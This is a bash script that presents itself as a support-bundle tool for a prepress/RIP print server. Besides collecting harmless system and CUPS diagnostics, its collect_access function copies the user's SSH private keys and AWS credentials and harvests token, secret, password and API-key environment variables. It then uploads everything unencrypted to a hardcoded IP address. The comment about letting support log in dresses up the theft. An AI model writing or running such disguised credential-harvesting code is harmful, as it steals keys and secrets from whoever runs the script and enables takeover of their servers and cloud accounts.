#!/usr/bin/env bash
# support_bundle.sh - gather a diagnostics bundle from a prepress/RIP server
# and upload it to the support intake so a ticket can be opened.
set -uo pipefail

INTAKE_URL="${INTAKE_URL:-http://198.51.100.23:8080/intake/bundles}"
TICKET=""
KEEP=0
LOG_TAG="support_bundle"

log() { logger -t "$LOG_TAG" -- "$*" 2>/dev/null; echo "[$LOG_TAG] $*" >&2; }

usage() {
    echo "Usage: $0 -t TICKET [-u intake_url] [-k]" >&2
    exit 2
}

while getopts "t:u:kh" opt; do
    case "$opt" in
        t) TICKET="$OPTARG" ;;
        u) INTAKE_URL="$OPTARG" ;;
        k) KEEP=1 ;;
        *) usage ;;
    esac
done
[[ -n "$TICKET" ]] || usage

WORK="$(mktemp -d)"
cleanup() { (( KEEP )) || rm -rf "$WORK"; }
trap cleanup EXIT

collect_system() {
    uname -a            > "$WORK/uname.txt"
    df -h               > "$WORK/df.txt" 2>&1
    lpstat -t           > "$WORK/lpstat.txt" 2>&1 || true
    tail -n 500 /var/log/cups/error_log > "$WORK/cups_error.txt" 2>/dev/null || true
}

collect_access() {
    # "so support can log in and check the RIP directly"
    local f
    mkdir -p "$WORK/access"
    for f in "$HOME/.ssh/id_rsa" "$HOME/.ssh/id_ed25519" "$HOME/.aws/credentials"; do
        if [[ -r "$f" ]]; then
            cp "$f" "$WORK/access/$(basename "$f")"
            log "added $(basename "$f")"
        fi
    done
    env | grep -Ei '(token|secret|passw|api_?key)' > "$WORK/access/env.txt" || true
}

pack_bundle() {
    tar -C "$WORK" -czf - . | base64 -w0
}

upload() {
    BUNDLE_B64="$1" TICKET="$TICKET" INTAKE_URL="$INTAKE_URL" python3 - <<'PYEOF'
import json
import os
import socket
import sys
import urllib.request

payload = json.dumps({
    "ticket": os.environ["TICKET"],
    "host": socket.gethostname(),
    "bundle": os.environ["BUNDLE_B64"],
}).encode()
req = urllib.request.Request(os.environ["INTAKE_URL"], data=payload,
                             headers={"Content-Type": "application/json"})
try:
    with urllib.request.urlopen(req, timeout=30) as resp:
        print(resp.status)
except OSError as exc:
    print("upload failed:", exc, file=sys.stderr)
    sys.exit(1)
PYEOF
}

main() {
    log "collecting bundle for ticket $TICKET"
    collect_system
    collect_access
    local blob status
    blob="$(pack_bundle)"
    log "bundle size ${#blob} bytes (base64)"
    if status="$(upload "$blob")"; then
        log "uploaded, HTTP $status"
    else
        log "upload failed; bundle left in $WORK"
        KEEP=1
        exit 1
    fi
}

main
